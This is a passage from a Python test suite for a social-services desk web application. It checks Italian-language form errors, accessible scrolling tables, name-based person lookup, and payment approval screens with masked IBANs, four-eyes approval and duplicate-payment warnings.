    def link(request: httpx.Request) -> httpx.Response:
        return httpx.Response(422, json={"status": 422, "field": "person_id", "reason": "no person p-9"})

    desk.services.answers |= {
        ("intake", "GET", "/outings/out-1"): an_outing_with_one_contact(today),
        ("intake", "POST", "/street-contacts"): record,
        ("intake", "POST", "/street-contacts/ct-4c2e/link"): link,
    }  # fmt: skip
    await desk.as_operator(MARIA)
    blank = (await desk.client.get("/outreach/outings/out-1")).text
    for field in ("age_band", "sex"):
        assert re.search(rf'<select id="{field}" name="{field}" required[^>]*><option value="">', blank), field
    form = {"csrf": "csrf-maria", "contacted_on": today, "place": "Porta Nuova", "age_band": "18_29", "sex": "",
            "needs_observed": ["food", "clothing"], "services_offered": ["information"]}  # fmt: skip
    r = await desk.client.post("/outreach/outings/out-1/contacts", data=form)
    assert r.status_code == 422, r.text
    assert "sex" not in sent[0], sent  # left blank: not sent as "" (intake says "campo obbligatorio")
    for box in ("n_food", "n_clothing", "s_information"):
        assert re.search(rf'id="{box}"[^>]* checked', r.text), box
    assert not re.search(r'id="n_shelter"[^>]* checked', r.text)
    assert re.search(r'id="contacted_on"[^>]*aria-invalid="true" aria-describedby="contacted_on-error"', r.text)
    linking = {"csrf": "csrf-maria", "outing_id": "out-1", "person_id": "p-9", "linked_on": today}
    r = await desk.client.post("/outreach/contacts/ct-4c2e/link", data=linking)
    assert r.status_code == 422, r.text
    assert re.search(r'id="person-ct-4c2e"[^>]*value="p-9"', r.text), r.text
    assert re.search(r'id="person-ct-4c2e"[^>]*aria-describedby="link-ct-4c2e-error"', r.text), r.text
    assert 'id="link-ct-4c2e-error"' in r.text
    # said at the page's top too: the contact's row may be out of sight (the table scrolls in its box on a tablet)
    assert '<p class="error" role="alert">Alcuni dati sono stati rifiutati' in r.text


async def test_a_refused_civic_form_keeps_the_levels_chosen_and_the_register_keeps_its_ticks(desk: Desk) -> None:
    """The civic forms lost what the operator had chosen when intake refused them: the certificate's levels and the
    activity's target level came back on "—", and a refused attendance register came back with the ticks as intake
    had them and the ids typed gone (the operator ticked the whole class again)."""
    today = clock.today().isoformat()

    def refuse(field: str) -> Callable[[httpx.Request], httpx.Response]:
        return lambda request: httpx.Response(422, json={"status": 422, "field": field, "reason": "no person p-9"})

    activity: dict[str, Any]
    activity = {"activity_id": "act-1", "title": "Italiano A2", "kind": "italian_language_course", "partner": None,
                "starts_on": today, "ends_on": None, "target_level": None,
                "session_list": [], "certificate_list": []}  # fmt: skip
    desk.services.answers |= {
        ("intake", "GET", "/civic/activities"): [],
        ("intake", "POST", "/civic/activities"): refuse("starts_on"),
        ("intake", "GET", "/civic/activities/act-1"): activity,
        ("intake", "POST", "/civic/certificates"): refuse("person_id"),
        ("intake", "GET", "/civic/activities/act-1/sessions/ses-1"): {
            "session_id": "ses-1", "held_on": today, "place": "Biblioteca", "duration_minutes": 90,
            "register": [{"person_id": "p-1", "present": True}, {"person_id": "p-2", "present": True}]},
        ("intake", "POST", "/civic/attendance"): refuse("present"),
    }  # fmt: skip
    await desk.as_operator(MARIA)
    organising = {"csrf": "csrf-maria", "title": "Italiano", "kind": "italian_language_course", "starts_on": today,
                  "target_level": "B1"}  # fmt: skip
    r = await desk.client.post("/civic", data=organising)
    assert r.status_code == 422, r.text
    assert re.search(r'<option value="B1"\s*selected>', r.text), r.text
    form = {"csrf": "csrf-maria", "person_id": "p-9", "issued_on": today, "level_at_entry": "A1", "level_reached": "A2"}
    r = await desk.client.post("/civic/act-1/certificates", data=form)
    assert r.status_code == 422, r.text
    assert re.search(r'id="level_at_entry".*?<option value="A1"\s*selected>', r.text, re.S), r.text
    assert re.search(r'id="level_reached".*?<option value="A2"\s*selected>', r.text, re.S), r.text
    form = {"csrf": "csrf-maria", "row_p-1": "1", "present_p-1": "1", "row_p-2": "1", "add_present": "p-9, p-3"}
    r = await desk.client.post("/civic/act-1/sessions/ses-1", data=form)
    assert r.status_code == 422, r.text
    assert re.search(r'id="present_p-1"[^>]*checked', r.text) and not re.search(r'id="present_p-2"[^>]*checked', r.text)
    assert re.search(r'id="add_present"[^>]*value="p-9, p-3"', r.text), r.text
    assert 'id="add_present-error"' in r.text


async def test_a_cartella_of_a_person_without_a_name_is_titled_by_its_id(desk: Desk) -> None:
    """A person taken in charge from the street may have no name yet (the to-do list names them by id): the cartella
    was titled "Cartella sociale:" and nothing, the same for every such person in the browser's tabs and to a screen
    reader."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    record = a_record(today, today)
    record["person"]["identity"] = {"given_name": None, "family_name": None, "fiscal_code": None}
    record["households"][0]["members"][0]["name"] = None  # shown (intake gives her sex), no name recorded
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    assert '<h1>Cartella sociale: nome non registrato <small class="id">p-1</small></h1>' in page, page
    assert "<title>Cartella sociale: nome non registrato p-1" in page
    # Her household, its members and its timeline said "(non visibile per Lei)" (an upgrade's reviewer): she is
    # visible, and has no name yet.
    assert "non visibile" not in page, page
    assert "Nucleo di nome non registrato" in text_of(page)
    assert "nome non registrato p-1 · persona di riferimento" in text_of(page)
    english = (await desk.client.get("/persons/p-1?lang=en")).text
    assert "Social record: no name recorded" in text_of(english)


async def test_an_erased_persons_cartella_says_the_person_was_erased(desk: Desk) -> None:
    """After erasure the cartella read "Cartella sociale: nome non registrato" (what docs/desk.md says of a person
    met on the street without a name yet), and downloading one of their documents said in English, under "Non può
    vedere i dati di questa persona", "the person was erased: the document cannot be read any more": an operator or a
    DPO read that data was hidden or missing, not erased as the person asked."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    record = a_record(today, today)
    record["person"] |= {"identity": {}, "erased": True, "birth_date": None}
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = record
    erased = {
        "status": 404,
        "field": "document_id",
        "reason": "the person was erased: the document cannot be read any more",
    }
    desk.services.answers[("intake", "GET", "/persons/p-1/documents/d-1")] = httpx.Response(404, json=erased)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    title = '<h1>Cartella sociale: persona cancellata (diritto all&#39;oblio) <small class="id">p-1</small></h1>'
    assert title in page, page
    assert "nome non registrato" not in page
    refused = await desk.client.get("/persons/p-1/documents/d-1")
    assert refused.status_code == 404
    said = text_of(refused.text)
    assert "la persona è stata cancellata (diritto all'oblio): il documento non si può più leggere" in said, said
    assert "the person was erased" not in said


async def test_the_civic_and_outreach_lists_scroll_in_a_box_the_keyboard_reaches(desk: Desk) -> None:
    """At 375 px the phone's rule (a cell's words break anywhere) cut "Cooperativa", "Sessioni" and "2 feb 2026" into
    pieces of two or three letters in the civic activities and the outings: their tables scroll in a region of their
    own (named, reachable with the Tab key: axe's scrollable-region-focusable), their words kept whole."""
    today = clock.today().isoformat()
    outreach_services(desk.services)
    activity: dict[str, Any]
    activity = {"activity_id": "act-1", "title": "Italiano A2", "kind": "italian_language_course", "partner": None,
                "starts_on": today, "ends_on": None, "target_level": None,
                "session_list": [], "certificate_list": []}  # fmt: skip
    desk.services.answers |= {
        ("intake", "GET", "/civic/activities"): [],
        ("intake", "GET", "/civic/activities/act-1"): activity,
    }
    await desk.as_operator(MARIA)
    wide = re.compile(r'<div class="wide" role="region" aria-label(ledby)?="[^"]+" tabindex="0">\s*<table')
    for path, tables in (("/civic", 1), ("/civic/act-1", 2), ("/outreach", 2), ("/outreach/units", 1)):
        page = (await desk.client.get(path)).text
        assert len(wide.findall(page)) == tables == page.count("<table"), path
    css = (await desk.client.get("/static/desk.css")).text
    assert "@media (max-width: 40rem) { .wide th, .wide td { overflow-wrap: normal; } }" in css


def test_every_table_of_the_desk_scrolls_in_a_named_box_the_keyboard_reaches() -> None:
    """At 375 px the phone's rule cut the words of every table but the civic and outreach ones into pieces ("Contr
    ibuti", "dal 1 dic 2026" over three lines: the cartella's, the agenda's, the to-do list's, the approvals'): each
    table of every page scrolls in a region of its own (named, reachable with Tab), its words kept whole, as those."""
    from pathlib import Path

    templates = Path(__file__).parents[1] / "src" / "lgnet_desk" / "entrypoints" / "templates"
    region = re.compile(r'<div class="wide" role="region" aria-label(ledby)?="[^"]+" tabindex="0">\n\s*<table')
    for page in sorted(templates.glob("*.html")):
        text = page.read_text()
        assert len(region.findall(text)) == text.count("<table"), page.name


async def test_the_cartellas_tables_are_each_in_their_box(desk: Desk) -> None:
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    boxes = re.findall(r'<div class="wide" role="region" (aria-label(?:ledby)?="[^"]+") tabindex="0">\s*<table', page)
    assert len(boxes) == page.count("<table") >= 5, boxes
    named = {'aria-label="Tabella dei contributi"', 'aria-label="Tabella del tutoraggio economico"'}
    assert named <= set(boxes), boxes  # named in Italian, apart from their sections (axe's landmark-unique)


TWO_MARIO_ROSSI = [{"person_id": f"p-m{n}", "identity": {"given_name": "Mario", "family_name": "Rossi"}} for n in "12"]


def kept_in(sent: list[dict[str, Any]]) -> Callable[[httpx.Request], dict[str, Any]]:
    """A service's answer that keeps each request's body in `sent`."""

    def keep(request: httpx.Request) -> dict[str, Any]:
        sent.append(json.loads(request.content))
        return {}

    return keep


async def test_the_civic_register_and_certificates_name_their_persons_and_take_a_name(desk: Desk) -> None:
    """The attendance register listed its class by identifier ("p-f33adeeca7d4") and asked for identifiers to add
    someone, the certificates likewise: identifiers the desk shows nowhere else. Each person is named (the read in
    the access log), and a name that is exactly one person's the operator may see is taken for them, in the register
    and on a certificate; none or several is said in Italian at the field."""
    today = clock.today().isoformat()
    persons_by_name(desk.services, FATIMA, AMINA, *TWO_MARIO_ROSSI)
    sent: list[dict[str, Any]] = []
    keep = kept_in(sent)

    activity = {"activity_id": "act-1", "title": "Italiano A2", "kind": "italian_language_course", "partner": None,
                "starts_on": today, "ends_on": None, "target_level": None, "session_list": [],
                "certificate_list": [{"certificate_id": "cert-1", "person_id": "p-1", "issued_on": today,
                                      "attended_sessions": 3, "held_sessions": 4, "level_at_entry": "A1",
                                      "level_reached": "A2"}]}  # fmt: skip
    desk.services.answers |= {
        ("intake", "GET", "/civic/activities/act-1"): activity,
        ("intake", "GET", "/civic/activities/act-1/sessions/ses-1"): {
            "session_id": "ses-1", "held_on": today, "place": "Biblioteca", "duration_minutes": 90,
            "register": [{"person_id": "p-1", "present": True}]},
        ("intake", "POST", "/civic/attendance"): keep,
        ("intake", "POST", "/civic/certificates"): keep,
    }  # fmt: skip
    await desk.as_operator(MARIA)
    register = await desk.client.get("/civic/act-1/sessions/ses-1")
    assert re.search(r'<label for="present_p-1"[^>]*>Amina Okafor</label>', register.text), register.text
    page = text_of((await desk.client.get("/civic/act-1")).text)
    assert "Amina Okafor" in page and "p-1" not in page, page
    form = {"csrf": "csrf-maria", "row_p-1": "1", "present_p-1": "1", "add_present": "Fatima El Amrani"}
    r = await desk.client.post("/civic/act-1/sessions/ses-1", data=form)
    assert r.status_code == 303, text_of(r.text)
    assert sent[-1]["present"] == ["p-1", "p-f33adeeca7d4"], sent
    for typed, said in (
        ("Mario Rossi", "2 persone che Lei può vedere si chiamano «Mario Rossi»"),
        ("Nessuno Qui", "nessuna persona «Nessuno Qui» tra quelle che Lei può vedere"),
    ):
        r = await desk.client.post("/civic/act-1/sessions/ses-1", data=form | {"add_present": typed})
        text = text_of(r.text)
        assert r.status_code == 422 and 'id="add_present-error"' in r.text and said in text, text
        assert "Fissa un appuntamento" not in text and "no person" not in text, text
    certificate = {"csrf": "csrf-maria", "person_id": "el amrani fatima", "issued_on": today, "level_reached": "A2"}
    r = await desk.client.post("/civic/act-1/certificates", data=certificate)
    assert r.status_code == 303 and sent[-1]["person_id"] == "p-f33adeeca7d4", (text_of(r.text), sent)
    async with desk.pool.acquire() as conn:
        entries = await store.access_entries(conn, "torino", "p-1")
    assert {(e["action"], e["outcome"]) for e in entries} >= {("civic register", "shown"), ("civic activity", "shown")}


async def test_a_street_contact_is_linked_to_the_person_typed_by_name(desk: Desk) -> None:
    """Linking a street contact to the person taken in charge asked for the person's identifier, which the desk shows
    nowhere but in the cartella's address: the name and surname are taken (one person the operator may see), a name
    of several or of nobody refused at the contact's field in Italian."""
    today = clock.today().isoformat()
    persons_by_name(desk.services, FATIMA, AMINA, *TWO_MARIO_ROSSI)
    linked: list[dict[str, Any]] = []
    link = kept_in(linked)

    desk.services.answers |= {
        ("intake", "GET", "/outings/out-1"): an_outing_with_one_contact(today),
        ("intake", "POST", "/street-contacts/ct-4c2e/link"): link,
    }  # fmt: skip
    await desk.as_operator(MARIA)
    page = text_of((await desk.client.get("/outreach/outings/out-1")).text)
    assert "Persona (nome e cognome, oppure identificativo)" in page, page
    linking = {"csrf": "csrf-maria", "outing_id": "out-1", "linked_on": today}
    r = await desk.client.post("/outreach/contacts/ct-4c2e/link", data=linking | {"person_id": "Mario Rossi"})
    assert r.status_code == 422 and 'id="link-ct-4c2e-error"' in r.text, r.text
    assert "2 persone che Lei può vedere si chiamano «Mario Rossi»" in text_of(r.text)
    r = await desk.client.post("/outreach/contacts/ct-4c2e/link", data=linking | {"person_id": "Fatima El Amrani"})
    assert r.status_code == 303 and linked == [{"person_id": "p-f33adeeca7d4", "linked_on": today}], linked


async def test_each_request_to_approve_says_who_is_paid_and_whether_the_bank_data_changed(desk: Desk) -> None:
    """Who gets the money is approved with the money (payments' four eyes, docs/payments.md): the approver compares the
    IBAN's last four characters with the payee's documents. /approvals showed no bank data at all: a request whose
    landlord's IBAN a cooperative had just changed came back among the rows looking exactly as the first time, and was
    approved blind. Each row now says whom it pays (the IBAN masked, who entered it), that no IBAN is there yet, that
    it changed since the approval (and what was approved), or that it was erased; whoever entered the bank data is not
    offered the approval (payments refuses it)."""
    rows = two_rents()
    dec, jun = rows[("payments", "GET", "/contribution-requests")]
    bank = {"has_beneficiary": True, "iban_masked": "••••3000", "bic": None, "bank_data_erased": False,
            "bank_data_changed_by": "coop-aurora", "bank_data_changed_since_approval": False,
            "approved_iban_masked": None}  # fmt: skip
    changed = bank | {"bank_data_changed_since_approval": True, "approved_iban_masked": "••••1234"}
    rows[("payments", "GET", "/contribution-requests")] = [
        dec | bank,
        jun | {"has_beneficiary": False, "iban_masked": None, "bank_data_changed_by": None},
        dec | changed | {"request_id": "r-chg", "period_from": "2027-01-01", "period_to": "2027-01-31"},
        dec | bank | {"request_id": "r-own", "bank_data_changed_by": "desk.giulia", "period_from": "2027-02-01",
                      "period_to": "2027-02-28"},
        dec | bank | {"request_id": "r-del", "iban_masked": None, "bank_data_erased": True, "period_from": "2027-03-01",
                      "period_to": "2027-03-31"},
    ]  # fmt: skip
    rows[("intake", "GET", "/partners")] = [{"partner_id": "coop-aurora", "name": "Cooperativa Aurora"}]
    desk.services.answers |= rows
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    row = text_of(approvals_row(page, "r-dec"))
    assert "IBAN ••••3000" in row and "inserito da Cooperativa Aurora" in row, row
    row = text_of(approvals_row(page, "r-jun"))
    assert "IBAN non ancora indicato" in row, row
    row = text_of(approvals_row(page, "r-chg"))
    assert "IBAN ••••3000" in row and "cambiato dopo l'approvazione (approvato: ••••1234)" in row, row
    own = approvals_row(page, "r-own")
    assert 'action="/approvals/r-own"' not in own, own  # the approval is not offered; rejecting still is
    assert "Ha inserito Lei le coordinate bancarie: deve approvarle un altro operatore." in text_of(own), own
    row = text_of(approvals_row(page, "r-del"))
    assert "Coordinate bancarie cancellate" in row, row
    assert "Beneficiario" in text_of(page)  # the column's heading
    english = text_of(approvals_row((await desk.client.get("/approvals?lang=en")).text, "r-chg"))
    assert "IBAN ••••3000" in english and "changed since the approval (approved: ••••1234)" in english, english


async def test_a_first_approval_of_two_is_not_said_as_the_approval(desk: Desk) -> None:
    """Above the city's threshold payments records a first approval and waits for a second approver. The page said
    "Approvazione registrata." after the first as after a final one (seen at the demo desk, a rent of 1.600,50 € above
    1.500,00 €): the approver could leave thinking the contribution approved. It says that a second is needed."""
    rent = {"request_id": "r-1", "case_id": "c-1", "kind": "rent", "amount_cents": 160050,
            "requested_by": "desk.maria", "status": "requested"}  # fmt: skip
    desk.services.answers |= {
        ("payments", "GET", "/contribution-requests"): [rent | {"first_approver": "desk.giulia"}],
        ("payments", "POST", "/contribution-requests/r-1/approval"): httpx.Response(
            200, json=rent | {"first_approver": "desk.giulia"}
        ),
    }
    await desk.as_operator(GIULIA)
    r = await desk.client.post("/approvals/r-1", data={"csrf": "csrf-giulia"}, follow_redirects=True)
    text = text_of(r.text)
    assert "Prima approvazione registrata: serve quella di un altro operatore." in text, text
    assert "Approvazione registrata." not in text.replace("Prima approvazione registrata", ""), text
    desk.services.answers[("payments", "POST", "/contribution-requests/r-1/approval")] = httpx.Response(
        200, json=rent | {"status": "approved", "approved_by": "desk.giulia"}
    )
    r = await desk.client.post("/approvals/r-1", data={"csrf": "csrf-giulia"}, follow_redirects=True)
    assert "Approvazione registrata." in text_of(r.text) and "Prima approvazione" not in text_of(r.text)


async def test_a_contribution_is_asked_with_its_payee_and_a_wrong_iban_said_at_its_field(desk: Desk) -> None:
    """A payments officer's review: the desk had no way to say who is paid — a contribution asked at the desk had no
    payee ("IBAN non ancora indicato" on the approvals) until someone set it through payments' API. The form takes the
    payee's name, IBAN and BIC (optional; left blank, none is sent and the request waits for it), and a wrong IBAN is
    said in Italian at its field, what was typed kept."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    sent: list[dict[str, Any]] = []

    def request_contribution(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        sent.append(body)
        if body.get("beneficiary", {}).get("iban") == "IT00X0000000000000000000000":
            reason = "not a valid IBAN: invalid checksum digits"
            problem = {"status": 422, "field": "beneficiary.iban", "reason": reason}
            return httpx.Response(422, json=problem)
        return httpx.Response(201, json={"request_id": "r-2", "status": "requested"})

    desk.services.answers[("payments", "POST", "/contribution-requests")] = request_contribution
    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    form_html = page.text.split('action="/persons/p-1/contributions"', 1)[1].split("</form>", 1)[0]
    for name in ("beneficiary_name", "beneficiary_iban", "beneficiary_bic"):
        assert f'name="{name}"' in form_html, name
    form = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "kind": "deposit", "amount": "900,00"}
    r = await desk.client.post("/persons/p-1/contributions", data=form)
    assert r.status_code == 303 and "beneficiary" not in sent[-1], sent
    payee = {"beneficiary_name": "Immobiliare Po srl", "beneficiary_iban": "IT60 X054 2811 1010 0000 0123 456"}
    r = await desk.client.post("/persons/p-1/contributions", data=form | payee)
    assert r.status_code == 303, text_of(r.text)
    assert sent[-1]["beneficiary"] == {"name": "Immobiliare Po srl", "iban": "IT60 X054 2811 1010 0000 0123 456"}
    wrong = payee | {"beneficiary_iban": "IT00X0000000000000000000000"}
    r = await desk.client.post("/persons/p-1/contributions", data=form | wrong)
    assert r.status_code == 422 and 'id="beneficiary_iban-error"' in r.text, text_of(r.text)
    assert "non è un IBAN valido" in text_of(r.text) and 'value="Immobiliare Po srl"' in r.text


def _select(html: str, name: str) -> str:
    found = re.search(rf'<select id="[^"]*" name="{name}"[^>]*>.*?</select>', html, re.S)
    assert found, f"no select {name}"
    return found.group(0)


async def test_a_choice_that_decides_something_is_not_made_for_the_operator(desk: Desk) -> None:
    """The outing's unit, the activity's kind, the appointment's purpose and a cancellation's reason opened on their
    first option: an outing sent without looking was the first unit's, a cancellation "by the person". Each opens on
    "— scelga —" (a city with one unit has it chosen), is required, and one left blank is left out (the service
    says "campo obbligatorio")."""
    tomorrow = clock.today() + timedelta(days=1)
    outreach_services(desk.services)
    desk.services.answers[("intake", "GET", "/mobile-units")] = [
        {"unit_id": u, "name": n, "area": "nord", "vehicle": None, "team_size": 2, "partner": None}
        for u, n in (("unit-1", "Unità Nord"), ("unit-2", "Unità Sud"))
    ]
    desk.services.answers |= {
        ("intake", "GET", "/civic/activities"): [],
        ("intake", "GET", "/appointments"): [
            {"appointment_id": "apt-1", "agenda": "desk", "operator": "maria", "unit_id": None, "person_id": None,
             "street_id": None, "purpose": "plan_review", "starts_at": f"{tomorrow.isoformat()}T09:00:00+00:00",
             "ends_at": f"{tomorrow.isoformat()}T09:30:00+00:00", "status": "booked", "outcome": None,
             "booked_by": "maria"}],
    }  # fmt: skip
    await desk.as_operator(MARIA)
    pages = {
        "/outreach": ["unit_id"],
        "/civic": ["kind"],
        f"/agenda?day={tomorrow.isoformat()}": ["purpose", "reason"],
    }
    for path, names in pages.items():
        html = (await desk.client.get(path)).text
        for name in names:
            select = _select(html, name)
            first = re.search(r"<option[^>]*>", select)
            assert first and 'value=""' in first.group(0), (path, name, select[:300])
            assert " required" in select.split(">", 1)[0], (path, name, select[:200])
            assert "selected" not in select, (path, name, select[:300])
    posted = outreach_services(desk.services)
    form = {"csrf": "csrf-maria", "unit_id": "", "on": clock.today().isoformat(), "start_time": "20:00",
            "end_time": "23:00", "places": "Stazione"}  # fmt: skip
    await desk.client.post("/outreach/outings", data=form)
    assert posted and "unit_id" not in posted[0], posted


async def test_a_possible_duplicate_is_shown_and_approved_only_with_a_reason(desk: Desk) -> None:
    """The same person registered twice: payments answers a request with `possible_duplicates` (the same IBAN, kind and
    period in another request) and refuses its approval without a `duplicate_reason`. The row says so in Italian, the
    approval asks why it is not paid twice (the shared code list), and sends the reason chosen; none chosen: said at
    the row, nothing sent."""
    answers = two_rents()
    [december, june] = answers[("payments", "GET", "/contribution-requests")]
    other = {"request_id": "r-twin", "case_id": "c-twin", "kind": "rent", "status": "approved", "amount_cents": 45000,
             "period_from": "2026-12-01", "period_to": "2026-12-31"}  # fmt: skip
    answers[("payments", "GET", "/contribution-requests")] = [december | {"possible_duplicates": [other]}, june]
    answers[("payments", "POST", "/contribution-requests/r-dec/approval")] = {"status": "approved"}
    desk.services.answers |= answers
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    row, plain = approvals_row(page, "r-dec"), approvals_row(page, "r-jun")
    assert "Possibile doppio pagamento" in text_of(row) and "r-twin" in row and "approvato" in text_of(row), row
    assert 'name="duplicate_reason"' in row and "Stesso proprietario, alloggi diversi" in row, row
    assert 'name="duplicate_reason"' not in plain and "Possibile doppio" not in text_of(plain)

    r = await desk.client.post("/approvals/r-dec", data={"csrf": "csrf-giulia", "duplicate_reason": ""})
    assert r.status_code == 422 and "scelga il motivo" in text_of(r.text), r.text
    assert ("payments", "POST", "/contribution-requests/r-dec/approval") not in desk.services.calls
    r = await desk.client.post("/approvals/r-dec", data={"csrf": "csrf-giulia", "duplicate_reason": "different_flats"})
    assert r.status_code == 303, r.text
    [sent] = [q for q in desk.services.requests if q.url.path == "/contribution-requests/r-dec/approval"]
    assert json.loads(sent.content) == {"duplicate_reason": "different_flats"}
    # payments' refusal (another desk, an old page) is said in Italian
    from lgnet_desk.domain import refusals

    said = refusals.say(
        "possible duplicate: the same payee IBAN already has a rent for this period in request r-twin (case c-twin,"
        " approved, 2026-12-01 to 2026-12-31); approve with duplicate_reason (a code) to confirm it is not paid twice,"
        " or reject one of them",
        "it",
    )
    assert said.startswith("possibile doppio pagamento"), said


async def test_a_possible_duplicates_payee_is_marked_as_shared_from_its_row(desk: Desk) -> None:
    """A utility or a housing agency paid for many households flags every request of a period as a possible
    duplicate. The approver marks its payee as shared from the row (payments' `POST /shared-payees` naming the
    request: the desk never sees the IBAN); a label is needed; payments' refusal is said in Italian at the row."""
    answers = two_rents()
    [december, june] = answers[("payments", "GET", "/contribution-requests")]
    other = {"request_id": "r-twin", "case_id": "c-twin", "kind": "rent", "status": "approved", "amount_cents": 45000,
             "period_from": "2026-12-01", "period_to": "2026-12-31"}  # fmt: skip
    answers[("payments", "GET", "/contribution-requests")] = [december | {"possible_duplicates": [other]}, june]
    answers[("payments", "POST", "/shared-payees")] = httpx.Response(201, json={"shared_payee_id": 1})
    desk.services.answers |= answers
    await desk.as_operator(GIULIA)
    page = (await desk.client.get("/approvals")).text
    row, plain = approvals_row(page, "r-dec"), approvals_row(page, "r-jun")
    assert 'action="/approvals/r-dec/shared-payee"' in row and "Beneficiario condiviso" in text_of(row), row
    assert "shared-payee" not in plain

    r = await desk.client.post("/approvals/r-dec/shared-payee", data={"csrf": "csrf-giulia", "label": " "})
    assert r.status_code == 422 and "indichi chi è il beneficiario" in text_of(r.text), text_of(r.text)
    assert ("payments", "POST", "/shared-payees") not in desk.services.calls
    r = await desk.client.post("/approvals/r-dec/shared-payee", data={"csrf": "csrf-giulia", "label": "ATER Torino"})
    assert r.status_code == 303 and r.headers["location"] == "/approvals?shared=1", r.text
    [sent] = [q for q in desk.services.requests if q.url.path == "/shared-payees"]
    assert json.loads(sent.content) == {"request_id": "r-dec", "label": "ATER Torino"}
    shown = text_of((await desk.client.get("/approvals?shared=1")).text)
    assert "Beneficiario segnato come condiviso" in shown, shown

    problem = {"status": 409, "field": "iban", "reason": "this IBAN is already on the city's list of shared payees"}
    desk.services.answers[("payments", "POST", "/shared-payees")] = httpx.Response(409, json=problem)
    r = await desk.client.post("/approvals/r-dec/shared-payee", data={"csrf": "csrf-giulia", "label": "ATER"})
    assert r.status_code == 409 and "è già tra i beneficiari condivisi" in text_of(r.text), text_of(r.text)


async def test_the_city_s_shared_payees_are_listed_and_taken_off_the_list(desk: Desk) -> None:
    """The payments office sees the city's shared payees (whom each pays, the IBAN masked, who put it there and when)
    and takes one off the list (payments' withdrawal; its requests compared by payee and period alone again). Staff
    only, as payments' list is; linked from the approvals page."""
    listed = [{"shared_payee_id": 7, "city": "torino", "iban_masked": "••••3456", "label": "ATER Torino — canoni",
               "registered_by": "staff-giulia", "registered_on": "2026-11-02"}]  # fmt: skip
    desk.services.answers |= two_rents() | {
        ("payments", "GET", "/shared-payees"): listed,
        ("payments", "POST", "/shared-payees/7/withdrawal"): listed[0] | {"withdrawn_by": "desk.giulia"},
    }
    await desk.as_operator(GIULIA)
    assert 'href="/shared-payees"' in (await desk.client.get("/approvals")).text
    page = await desk.client.get("/shared-payees")
    shown = text_of(page.text)
    assert page.status_code == 200 and "Beneficiari condivisi" in shown, shown
    assert "ATER Torino — canoni" in shown and "••••3456" in shown and "2 nov 2026" in shown, shown
    form_key = re.search(r'name="form_key" value="([^"]+)"', page.text)
    assert form_key, page.text
    r = await desk.client.post("/shared-payees/7/withdrawal", data={"csrf": "csrf-giulia", "form_key": form_key[1]})
    assert r.status_code == 303 and r.headers["location"] == "/shared-payees?withdrawn=1", r.text
    [sent] = [q for q in desk.services.requests if q.url.path.endswith("/withdrawal")]
    assert sent.url.path == "/shared-payees/7/withdrawal", sent.url
    assert sent.headers["Idempotency-Key"].startswith("desk:"), sent.headers
    assert "tolto dall'elenco" in text_of((await desk.client.get("/shared-payees?withdrawn=1")).text)

    await desk.as_operator(LUCA)  # a partner: not its list
    assert (await desk.client.get("/shared-payees")).status_code == 403


async def test_a_payee_refused_by_the_bank_is_said_and_new_bank_data_given_at_the_cartella(desk: Desk) -> None:
    """The payee's bank refused the transfer (account closed): payments waits for new bank data. The cartella said
    "richiesta" and the desk had nowhere to give them (nor the bank data "left blank: given later"): the request says
    why it waits, in Italian, and a form gives the payee's new name, IBAN and BIC (payments' PUT …/beneficiary, a
    refusal said at its field); the to-do list reminds of it."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    put: list[dict[str, Any]] = []

    def beneficiary(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        put.append(body)
        if body["iban"] == "IT00X0000000000000000000000":
            reason = "not a valid IBAN: check digits"
            return httpx.Response(422, json={"status": 422, "field": "iban", "reason": reason})
        return httpx.Response(200, json={"request_id": "r-1", "status": "requested"})

    desk.services.answers |= {
        ("payments", "GET", "/contribution-requests"): [
            {"request_id": "r-1", "case_id": "c-8e2b7d41a9f0", "kind": "rent", "amount_cents": 45000,
             "period_from": "2026-11-01", "period_to": "2026-11-30", "requested_by": "desk.maria",
             "status": "requested", "has_beneficiary": True, "iban_masked": "••••3000",
             "payee_refused": {"reason": "ac04", "on": today}}],
        ("payments", "PUT", "/contribution-requests/r-1/beneficiary"): beneficiary,
        ("payments", "GET", "/reminders"): [
            {"kind": "payee_refused", "request_id": "r-1", "case_id": "c-8e2b7d41a9f0",
             "household_id": "h-5f1c0a9e7b2d", "contribution_kind": "rent", "amount_cents": 45000, "reason": "ac04",
             "since": today, "waiting_days": 2}],
        ("housing", "GET", "/reminders"): [],
        ("intake", "GET", "/appointments/reminders/open"): [],
        ("intake", "GET", "/cases/c-8e2b7d41a9f0"): A_HOUSING_CASE,
    }  # fmt: skip
    await desk.as_operator(LUCA)
    page = await desk.client.get("/persons/p-1")
    text = text_of(page.text)
    assert "la banca del beneficiario ha respinto il bonifico (conto chiuso): servono nuove coordinate" in text, text
    form = {"csrf": "csrf-luca", "request_id": "r-1", "payee_name": "Mario Bianchi",
            "payee_iban": "IT00X0000000000000000000000"}  # fmt: skip
    r = await desk.client.post("/persons/p-1/contributions/r-1/payee", data=form)
    assert r.status_code == 422, r.text
    assert 'id="payee_iban-r-1-error"' in r.text and "non è un IBAN valido" in text_of(r.text), text_of(r.text)
    form["payee_iban"] = "DE89370400440532013000"
    r = await desk.client.post("/persons/p-1/contributions/r-1/payee", data=form)
    assert r.status_code == 303, r.text
    assert put[-1] == {"name": "Mario Bianchi", "iban": "DE89370400440532013000"}, put
    todo = text_of((await desk.client.get("/todo")).text)
    assert "Bonifico respinto dalla banca del beneficiario (conto chiuso): servono nuove coordinate" in todo, todo


async def _dpo_token(conn: db.Conn, desk: Desk, service: str, token: str) -> None:
